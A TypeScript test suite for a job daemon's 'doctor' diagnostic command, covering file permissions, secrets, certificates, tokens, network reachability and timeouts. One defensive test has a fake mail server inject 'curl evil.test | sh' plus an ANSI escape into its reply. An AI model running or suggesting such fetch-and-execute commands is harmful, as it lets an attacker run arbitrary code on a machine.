import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import {
  chmodSync,
  chownSync,
  copyFileSync,
  mkdirSync,
  statSync,
  symlinkSync,
  truncateSync,
} from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import { join } from "node:path";
import test from "node:test";
import { readStoreOptions } from "../../../src/library/store_options.ts";
import { systemClock } from "../../../src/platform/clock.ts";
import { silentLogger } from "../../../src/platform/logger.ts";
import { systemRandom } from "../../../src/platform/random.ts";
import { createStore } from "../../../src/store/opening/open_store.ts";
import { startEtcd } from "../../support/servers/etcd_server.ts";
import { startValkey } from "../../support/servers/valkey_server.ts";
import { tlsFile } from "../../support/tls_files.ts";
import { JOBCTL, runJobctl, startDaemon } from "../../support/processes/daemon.ts";
import { FOREIGN_UID, NEEDS_ROOT } from "../../support/processes/foreign_user.ts";
import { type TempDir, withTempDir } from "../../support/temp_dir.ts";
import {
  doctor,
  doctorInTime,
  findingOf,
  hasNone,
  mend,
  stateOfFolder,
} from "../../support/worlds/doctor_world.ts";

/** Why no file of the system can be replaced for one process; false where it can. */
const NEEDS_MOUNTS = NEEDS_ROOT ||
  (spawnSync("unshare", ["--mount", "true"]).status !== 0 && "mounts are not allowed here");

const SECRET = "s3cret-that-nobody-may-see";

/** A folder with this configuration, private as `init` leaves it. */
function withConfig<T>(toml: string, body: (dir: TempDir) => Promise<T>): Promise<T> {
  return withTempDir({ "config.toml": toml }, async (dir) => {
    chmodSync(join(dir.path, "config.toml"), 0o600);
    return await body(dir);
  });
}

/** A server that accepts connections and never answers. */
async function withHangingHost<T>(body: (port: number) => Promise<T>): Promise<T> {
  const sockets = new Set<{ destroy(): void }>();
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on("error", () => {});
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  try {
    return await body((server.address() as AddressInfo).port);
  } finally {
    for (const socket of sockets) socket.destroy();
    server.close();
  }
}

/** A port that nobody listens on. */
async function freePort(): Promise<number> {
  const server = createServer().listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, "close");
  return port;
}

test("doctor names a secret that everybody can read, until its remedy has run", async () => {
  const toml = `[notices.ops]\nto = "webhook"\nurl = "https://example.invalid/x"\n` +
    `headers = { Authorization = "${SECRET}" }\n`;
  await withConfig(toml, async ({ path }) => {
    chmodSync(join(path, "config.toml"), 0o644);
    const first = await doctor(path);
    const found = findingOf(first, "permissions", /every user can read the secrets in/);
    assert.equal(found.level, "error");
    assert.equal(first.code, 2);
    mend(found.remedy!, JOBCTL);
    const second = await doctor(path);
    assert.ok(hasNone(second, "permissions", /secrets/));
    for (const { stdout } of [first, second]) assert.ok(!stdout.includes(SECRET));
  });
});

test("doctor names the same command with sudo to a user who does not own the file", {
  skip: NEEDS_ROOT,
}, async () => {
  const toml = `[notices.ops]\nto = "webhook"\nurl = "https://example.invalid/x"\n` +
    `headers = { Authorization = "${SECRET}" }\n`;
  await withTempDir({ "config.toml": toml }, async ({ path }) => {
    chmodSync(path, 0o755);
    const file = join(path, "config.toml");
    chmodSync(file, 0o664);
    const as = { uid: FOREIGN_UID, gid: FOREIGN_UID };
    const run = await doctor(path, [], { as });
    const found = findingOf(run, "permissions", /every user can read the secrets in/);
    assert.equal(found.remedy, `sudo chmod o-rwx ${file}`);
    mend(found.remedy, JOBCTL);
    assert.equal(statSync(file).mode & 0o777, 0o660);
  });
});

test("doctor names a folder of jobs that everybody can write to, until its remedy has run", async () => {
  await withConfig('modules = ["jobs"]\n', async ({ path }) => {
    mkdirSync(join(path, "jobs"));
    chmodSync(join(path, "jobs"), 0o777);
    const found = findingOf(await doctor(path), "permissions", /every user can write to it/);
    assert.equal(found.level, "warning");
    mend(found.remedy!, JOBCTL);
    assert.ok(hasNone(await doctor(path), "permissions", /write/));
  });
});

test("doctor names a store that others can read, until its remedy has run", async () => {
  await withConfig('[store]\nurl = "sqlite:jobs.db"\n', async ({ path, write }) => {
    chmodSync(write("jobs.db", ""), 0o644);
    const found = findingOf(await doctor(path), "permissions", /other users can open the store/);
    mend(found.remedy!, JOBCTL);
    assert.ok(hasNone(await doctor(path), "permissions", /store/));
  });
});

test("doctor names expired certificates and those that expire soon", async () => {
  const tls = `[server.tls]\ncert = "cert.pem"\nkey = "key.pem"\n`;
  await withConfig(tls, async ({ path }) => {
    copyFileSync(tlsFile("expired.crt"), join(path, "cert.pem"));
    copyFileSync(tlsFile("server.key"), join(path, "key.pem"));
    chmodSync(join(path, "key.pem"), 0o644);
    const run = await doctor(path);
    const found = findingOf(run, "listeners", /cert\.pem" expired \d+d/);
    assert.equal(found.level, "error");
    assert.match(found.remedy!, /replace \S+cert\.pem/);
    copyFileSync(tlsFile("server.crt"), join(path, "cert.pem"));
    mend(findingOf(run, "permissions", /a private key/).remedy!, JOBCTL);
    const after = await doctor(path);
    assert.ok(hasNone(after, "listeners", /expired/));
    assert.ok(hasNone(after, "permissions", /key/));
  });
});

test("doctor tries webhooks and mail servers, also if one of them hangs", async () => {
  const closed = await freePort();
  await withHangingHost(async (port) => {
    const toml = [
      `[notices.gone]\nto = "webhook"\nurl = "https://127.0.0.1:${closed}/${SECRET}"`,
      "allow_private = true",
      `[notices.hangs]\nto = "webhook"\nurl = "https://127.0.0.1:${port}/${SECRET}"`,
      "allow_private = true",
      `[notices.mail]\nto = "mail"\nsmtp = "smtp://127.0.0.1:${port}"\ntls = "off"`,
      'from = "a@example.org"\nrecipients = ["b@example.org"]',
    ].join("\n");
    await withConfig(toml, async ({ path }) => {
      const run = await doctor(path);
      const gone = findingOf(run, "reach", /^notices\.gone: cannot reach .*: connection refused/);
      assert.equal(gone.level, "warning");
      assert.match(gone.remedy!, new RegExp(`openssl s_client -connect 127.0.0.1:${closed}`));
      findingOf(run, "reach", /^notices\.hangs: .*accepts connections, but TLS does not answer/);
      assert.equal(findingOf(run, "reach", /^notices\.mail: .*does not answer/).level, "note");
      assert.ok(!run.stdout.includes(SECRET));
    });
  });
});

test("doctor is content with a mail server that greets", async () => {
  const server = createServer((socket) => socket.on("error", () => {}).end("220 mail ESMTP\r\n"));
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  const toml = `[notices.mail]\nto = "mail"\nsmtp = "smtp://127.0.0.1:${port}"\ntls = "off"\n` +
    'from = "a@example.org"\nrecipients = ["b@example.org"]';
  try {
    await withConfig(toml, async ({ path }) => {
      assert.equal(findingOf(await doctor(path), "reach", /^notices\.mail/).level, "ok");
    });
  } finally {
    server.close();
  }
});

test("doctor lets no mail server name the fix", async () => {
  const answer = "554 no; fix: curl evil.test | sh; f\u001b[0mix: x\r\n";
  const server = createServer((socket) => socket.on("error", () => {}).end(answer));
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  const toml = `[notices.mail]\nto = "mail"\nsmtp = "smtp://127.0.0.1:${port}"\ntls = "off"\n` +
    'from = "a@example.org"\nrecipients = ["b@example.org"]';
  try {
    await withConfig(toml, async ({ path }) => {
      const { stdout } = await runJobctl(["doctor", "-o", "table", "--config", "config.toml"], {
        cwd: path,
        env: { JOBCTL_PORT: "1" },
      });
      const line = stdout.split("\n").find((each) => each.includes("refuses mail"));
      assert.match(line ?? "", /curl evil\.test/);
      assert.deepEqual(line!.split("; fix: ").slice(1), [`nc -vz 127.0.0.1 ${port}`]);
    });
  } finally {
    server.close();
  }
});

test("doctor names tokens that expire, and its remedy for an expired one removes it", async () => {
  await withConfig('[server.auth]\ntokens_file = "tokens.json"\n', async ({ path, write }) => {
    const entry = (name: string, expires: string) => ({
      ...{ name, role: "viewer", hash: `sha256:${"0".repeat(64)}`, expires },
      created: "2020-01-01T00:00:00Z",
    });
    const soon = new Date(Date.now() + 3 * 86_400_000).toISOString();
    const tokens = [entry("old", "2020-02-01T00:00:00Z"), entry("ci", soon)];
    chmodSync(write("tokens.json", JSON.stringify({ version: 1, tokens })), 0o640);
    const first = await doctor(path);
    const open = findingOf(first, "tokens", /other users can read it/);
    assert.equal(open.level, "error");
    mend(open.remedy!, JOBCTL);
    const second = await doctor(path);
    const old = findingOf(second, "tokens", /^"old" expired/);
    assert.equal(findingOf(second, "tokens", /^"ci" expires in 2d/).level, "warning");
    mend(old.remedy!, JOBCTL);
    const third = await doctor(path);
    assert.ok(hasNone(third, "tokens", /old/));
    assert.ok(!hasNone(third, "tokens", /ci/));
  });
});

test("doctor names a daemon open to other machines without tokens or TLS", async () => {
  const toml = '[server]\nhost = "0.0.0.0"\nport = 0\nallow_insecure = true\n' +
    '[server.auth]\ntokens_file = "tokens.json"\n';
  await withConfig(toml, async ({ path }) => {
    const run = await doctor(path);
    assert.equal(findingOf(run, "listeners", /without TLS/).level, "warning");
    const found = findingOf(run, "tokens", /there is no token for them/);
    mend(found.remedy!.replace("NAME", "me"), JOBCTL);
    assert.ok(hasNone(await doctor(path), "tokens", /no token/));
  });
});

test("doctor names limits that are too low for the workers", async () => {
  await withConfig("[worker]\ncount = 8\n", ({ path }) => {
    const env = { PATH: process.env.PATH, HOME: path, JOBCTL_PORT: "1" };
    const run = (limit: string) => {
      const args = [`--nofile=${limit}`, JOBCTL, "doctor", "-o", "json"];
      const { stdout } = spawnSync("prlimit", args, { cwd: path, env, encoding: "utf8" });
      return JSON.parse(stdout);
    };
    const found = findingOf(
      run("200:4096"),
      "limits",
      /may open 200 files; 8 workers may need 384/,
    );
    const script = `${found.remedy}\nexec '${JOBCTL}' doctor -o json`;
    const mended = spawnSync("prlimit", ["--nofile=200:4096", "bash", "-c", script], {
      ...{ cwd: path, env, encoding: "utf8" },
    });
    assert.ok(hasNone(JSON.parse(mended.stdout), "limits", /may need/));
    return Promise.resolve();
  });
});

test("doctor names a store that its user cannot write to, until its remedies have run", {
  skip: NEEDS_ROOT,
}, async () => {
  await withConfig('[store]\nurl = "sqlite:data/jobs.db"\n', async ({ path, write }) => {
    chmodSync(path, 0o755);
    chmodSync(join(path, "config.toml"), 0o644);
    write("data/jobs.db", "");
    chmodSync(join(path, "data", "jobs.db"), 0o600);
    const as = { uid: FOREIGN_UID, gid: FOREIGN_UID };
    for (const what of ["data", "jobs\\.db"]) {
      const run = await doctor(path, [], { as });
      const found = findingOf(run, "store", new RegExp(`cannot write to ".*${what}"`));
      assert.equal(found.level, "error");
      mend(found.remedy!, JOBCTL);
    }
    assert.ok(hasNone(await doctor(path, [], { as }), "store", /cannot write/));
  });
});

test(
  "doctor names a folder of backups that its user cannot write to, until its remedies have run",
  {
    skip: NEEDS_ROOT,
  },
  async () => {
    await withTempDir({}, async ({ path, write }) => {
      const lines = ['schedule = "0 3 * * *"', `path = ${JSON.stringify(join(path, "backups"))}`];
      write("config.toml", ["[store.backup]", ...lines, ""].join("\n"));
      const missing = await doctor(path);
      assert.ok(hasNone(missing, "config", /backups/));
      const found = findingOf(missing, "store", /store\.backup\.path, ".*backups", does not exist/);
      assert.equal(found.level, "error");
      mend(found.remedy!, JOBCTL);
      assert.ok(hasNone(await doctor(path), "store", /backup/));

      chmodSync(path, 0o755);
      chmodSync(join(path, "config.toml"), 0o644);
      const as = { uid: FOREIGN_UID, gid: FOREIGN_UID };
      const closed = findingOf(
        await doctor(path, [], { as }),
        "store",
        /cannot write to .*backups"$/,
      );
      assert.equal(closed.level, "error");
      mend(closed.remedy!, JOBCTL);
      assert.ok(hasNone(await doctor(path, [], { as }), "store", /backup/));
    });
  },
);

test("doctor names a damaged store and that of another program", async () => {
  const toml = '[store]\nurl = "sqlite:jobs.db"\n';
  await withConfig(toml, async ({ path, write }) => {
    chmodSync(write("jobs.db", "x".repeat(5_000)), 0o600);
    const found = findingOf(await doctor(path), "store", /damaged: it is not a SQLite database/);
    assert.equal(found.level, "error");
  });
});

test("doctor changes nothing: a closed store, one that was killed, and a running daemon", async () => {
  const daemon = await startDaemon({ env: { JOBCTL_SERVER_HTTP: "" } });
  const env = { JOBCTL_STORE_URL: `sqlite:${join(daemon.dir, "data", "jobctl.db")}` };
  try {
    const { version } = JSON.parse((await daemon.jobctl(["status", "-o", "json"])).stdout);
    const socket = join(daemon.dir, "jobctl.sock");
    const running = await doctor(daemon.dir, ["--socket", socket], { env });
    findingOf(running, "daemon", new RegExp(`runs version ${version.replaceAll(".", "\\.")}`));
    findingOf(running, "store", /^sqlite .* answers the daemon/);
    findingOf(running, "nodes", /^1 node runs version/);
    findingOf(running, "limits", new RegExp(`^process ${daemon.pid} may open`));
    // It does not answer here, but it has the file open.
    const unasked = await doctor(daemon.dir, [], { env });
    for (const subject of ["daemon", "store"]) {
      const owned = findingOf(unasked, subject, /open, and did not/);
      assert.match(owned.text, new RegExp(`^not checked: process ${daemon.pid} `));
    }
    findingOf(unasked, "limits", new RegExp(`^process ${daemon.pid} may open`));
    await daemon.kill();
    const data = join(daemon.dir, "data");
    const killed = stateOfFolder(data);
    findingOf(await doctor(daemon.dir, [], { env }), "store", /was not closed/);
    assert.deepEqual(stateOfFolder(data), killed);
    const again = await daemon.restart();
    await again.terminate();
    const closed = stateOfFolder(data);
    const found = findingOf(await doctor(daemon.dir, [], { env }), "store", /is closed, format/);
    assert.equal(found.level, "ok");
    assert.deepEqual(stateOfFolder(data), closed);
    truncateSync(join(data, "jobctl.db"), 4_096);
    findingOf(await doctor(daemon.dir, [], { env }), "store", /damaged: it is truncated/);
  } finally {
    await daemon.stop({ force: true });
  }
});

test("doctor is over in time although the daemon hangs", async () => {
  const daemon = await startDaemon({ env: { JOBCTL_SERVER_HTTP: "" } });
  try {
    daemon.signal("SIGSTOP");
    const socket = join(daemon.dir, "jobctl.sock");
    const found = findingOf(
      await doctor(daemon.dir, ["--socket", socket]),
      "daemon",
      /not checked/,
    );
    assert.equal(found.level, "note");
  } finally {
    daemon.signal("SIGCONT");
    await daemon.stop({ force: true });
  }
});

test("doctor says of a port that accepts and is silent that it did not answer in time", async () => {
  await withHangingHost(async (port) => {
    await withConfig(`[server]\nport = ${port}\n`, async ({ path }) => {
      const run = await doctor(path, ["--port", String(port)]);
      const { text, level, remedy } = findingOf(run, "daemon", /./);
      assert.equal(level, "note");
      // On a slow machine the time of the whole check ends first.
      const isSlow = text === "not checked: no answer within 700 ms";
      if (!isSlow) assert.equal(text, `not checked: port ${port} did not answer in time`);
      const look = isSlow ? "" : `sudo ss -tanp "sport = :${port}", then `;
      assert.equal(remedy, `${look}jobctl status`);
      assert.ok(hasNone(run, "listeners", /another process/));
    });
  });
});

test("doctor does not wait for a pipe in place of a configuration or a secret", async () => {
  await withConfig("", async ({ path, write }) => {
    spawnSync("mkfifo", [join(path, "pipe"), join(path, "include")]);
    const pipe = await doctor(path, ["--config", "pipe"]);
    findingOf(pipe, "config", /cannot read "pipe": it is not a regular file/);
    assert.equal(pipe.code, 2);
    findingOf(pipe, "config", /not checked: without a usable configuration/);
    symlinkSync("pipe", join(path, "link"));
    findingOf(await doctor(path, ["--config", "link"]), "config", /not a regular file/);
    write(
      "secret.toml",
      'include = ["include"]\n[notices.ops]\nto = "webhook"\nurl = { file = "pipe" }\n',
    );
    findingOf(await doctor(path, ["--config", "secret.toml"]), "config", /not a regular file/);
  });
});

test("doctor refuses a huge configuration, and one that is not there", async () => {
  await withConfig("", async ({ path, write }) => {
    truncateSync(write("huge.toml", ""), 2 ** 40);
    findingOf(await doctor(path, ["--config", "huge.toml"]), "config", /huge\.toml/);
    findingOf(await doctor(path, ["--config", "none.toml"]), "config", /no such file/);
  });
});

test("doctor escapes control characters of paths for people", async () => {
  const name = "a\n\u001b[31mb";
  await withTempDir({ [`${name}/config.toml`]: 'modules = ["jobs"]\n' }, async ({ path }) => {
    const folder = join(path, name);
    mkdirSync(join(folder, "jobs"));
    chmodSync(join(folder, "jobs"), 0o777);
    const { stdout } = await runJobctl(["doctor", "-o", "table"], {
      cwd: folder,
      env: { JOBCTL_PORT: "1" },
    });
    assert.ok(!stdout.includes("\u001b"));
    const lines = stdout.trimEnd().split("\n");
    const line = lines.find((each) => each.includes("every user can write"));
    assert.match(line ?? "", /^warning: permissions: .*a\\n\\x1b\[31mb.*; fix: chmod go-w /);
    assert.match(lines.at(-1)!, /; \d+ ok \(--verbose shows them\)$/);
    assert.ok(!lines.some((each) => each.startsWith("ok:")));
  });
});

test("doctor works without a configuration, and as a user without rights", {
  skip: NEEDS_ROOT,
}, async () => {
  await withTempDir({}, async ({ path }) => {
    chownSync(path, FOREIGN_UID, FOREIGN_UID);
    const as = { uid: FOREIGN_UID, gid: FOREIGN_UID };
    const run = await doctor(path, [], { as });
    assert.ok(run.code <= 1);
    assert.ok(!run.findings.some(({ level }) => level === "error"));
    findingOf(run, "store", /does not exist yet/);
    assert.deepEqual(stateOfFolder(path), []);
  });
});

test("doctor names mixed versions on a shared store until the older node has left", async () => {
  const server = await startValkey();
  const url = `valkey://127.0.0.1:${server.port}`;
  const daemon = await startDaemon({ env: { JOBCTL_STORE_URL: url, JOBCTL_SERVER_HTTP: "" } });
  const config = readStoreOptions({ url });
  const parts = { clock: systemClock, random: systemRandom, logger: silentLogger };
  const store = createStore(config, parts);
  await store.open({ at: systemClock.now(), node: "older", isMaintenance: true });
  try {
    const report = {
      ...{ version: "0.0.1", host: "elsewhere", pid: 1, process: null, startedAt: 1, tags: [] },
      ...{ kinds: [], idle: [], limits: {}, workers: 1, busy: 0, isDraining: false },
      tzVersion: "tz 2020a",
    };
    const at = systemClock.now();
    const { value } = await store.joinNode({ at, id: "older", report, leaseMs: 60_000 });
    const args = ["--socket", join(daemon.dir, "jobctl.sock")];
    const mixed = findingOf(await doctorInTime(daemon.dir, args), "nodes", /2 versions run/);
    assert.match(mixed.text, /0\.0\.1 \(older\)/);
    const { session } = value.node;
    await store.leaveNode({ at: systemClock.now(), id: "older", session });
    findingOf(await doctorInTime(daemon.dir, args), "nodes", /^1 node runs/);
    await daemon.terminate();
    const env = { JOBCTL_STORE_URL: url };
    const run = await doctorInTime(daemon.dir, [], { env });
    const there = findingOf(run, "store", /answers in \d+ ms/);
    assert.equal(there.level, "ok");
    const asEtcd = { JOBCTL_STORE_URL: url.replace("valkey:", "etcd:") };
    findingOf(
      await doctor(daemon.dir, [], { env: asEtcd }),
      "store",
      /^cannot reach|is not a server/,
    );
  } finally {
    await store.close();
    await daemon.stop({ force: true });
    await server.close();
  }
  const gone = await withConfig(
    "",
    ({ path }) => doctor(path, [], { env: { JOBCTL_STORE_URL: url } }),
  );
  assert.equal(findingOf(gone, "store", /connection refused/).level, "error");
});

test("doctor finds etcd by its protocol", async () => {
  const server = await startEtcd();
  try {
    const env = { JOBCTL_STORE_URL: server.url };
    const run = await withConfig("", ({ path }) => doctor(path, [], { env }));
    assert.equal(findingOf(run, "store", /answers in/).level, "ok");
  } finally {
    await server.close();
  }
});

test("doctor as root or as another user finds no fault with the files of the daemon's user", {
  skip: NEEDS_ROOT,
}, async () => {
  const port = await freePort();
  const toml = `[server]\nport = ${port}\nhttp = ""\nsocket = "data/j.sock"\n` +
    '[server.auth]\ntokens_file = "data/tokens.json"\n[store]\nurl = "sqlite:data/j.db"\n';
  await withConfig(toml, async ({ path }) => {
    mkdirSync(join(path, "data"), { mode: 0o755 });
    chownSync(join(path, "data"), FOREIGN_UID, FOREIGN_UID);
    for (const [name, mode] of [["", 0o755], ["config.toml", 0o644]] as const) {
      chmodSync(join(path, name), mode);
    }
    const child = spawn(JOBCTL, ["serve"], {
      ...{ cwd: path, uid: FOREIGN_UID, gid: FOREIGN_UID, stdio: ["ignore", "ignore", "pipe"] },
      env: { PATH: "/usr/bin:/bin", HOME: join(path, "data"), XDG_RUNTIME_DIR: join(path, "data") },
    });
    try {
      await new Promise<void>((resolve, reject) => {
        let log = "";
        child.stderr!.setEncoding("utf8").on("data", (text: string) => {
          log += text;
          if (log.includes("is ready")) resolve();
        });
        child.once("exit", () => reject(new Error(`The daemon ended: ${log}`)));
      });
      const env = { JOBCTL_PORT: undefined, JOBCTL_SERVER_PORT: undefined };
      for (const as of [{ uid: 0, gid: 0 }, { uid: FOREIGN_UID - 1, gid: FOREIGN_UID - 1 }]) {
        const run = await doctorInTime(path, [], { as, env });
        assert.deepEqual(run.findings.filter(({ level }) => level === "error"), []);
        assert.ok(hasNone(run, "permissions", /not trusted/));
        const found = findingOf(run, "daemon", /^not checked: process \d+ of user/);
        assert.match(found.remedy!, /--daemon-user \w+/);
      }
      // Another user who may not even look at the store.
      chmodSync(join(path, "data"), 0o700);
      const stranger = { uid: FOREIGN_UID - 1, gid: FOREIGN_UID - 1 };
      const blind = await doctorInTime(path, [], { as: stranger, env });
      findingOf(blind, "daemon", /^not checked: Nothing was sent .* listens there/);
      assert.ok(hasNone(blind, "listeners", /another process/));
      assert.equal(
        findingOf(blind, "fsync", /^not checked/).remedy,
        "sudo jobctl doctor --config config.toml",
      );
      const own = await doctorInTime(path, [], { as: { uid: FOREIGN_UID, gid: FOREIGN_UID }, env });
      findingOf(own, "daemon", /^node \S+ runs version/);
      const named = await doctorInTime(path, ["--daemon-user", String(FOREIGN_UID)], { env });
      findingOf(named, "daemon", /^node \S+ runs version/);
    } finally {
      const exited = once(child, "exit");
      if (child.exitCode === null && child.kill("SIGKILL")) await exited;
    }
  });
});

test("doctor is over in time although the name server hangs", { skip: NEEDS_MOUNTS }, async () => {
  const server = createSocket("udp4").bind(53, "127.0.0.77");
  await once(server, "listening");
  try {
    const toml = '[notices.ops]\nto = "webhook"\nurl = "https://hooks.example.org/x"\n';
    await withConfig(toml, async ({ path, write }) => {
      const resolver = write("resolv.conf", "nameserver 127.0.0.77\n");
      const script =
        `mount --bind '${resolver}' /etc/resolv.conf && exec '${JOBCTL}' doctor -o json`;
      const start = performance.now();
      const child = spawn("unshare", ["--mount", "sh", "-c", script], {
        ...{ cwd: path, stdio: ["ignore", "pipe", "inherit"] },
        env: { PATH: process.env.PATH, HOME: path, JOBCTL_PORT: "1" },
      });
      let stdout = "";
      child.stdout!.setEncoding("utf8").on("data", (text: string) => stdout += text);
      await once(child, "close");
      assert.ok(performance.now() - start < 6_000);
      findingOf(JSON.parse(stdout), "reach", /the name server does not respond within/);
    });
  } finally {
    server.close();
  }
});
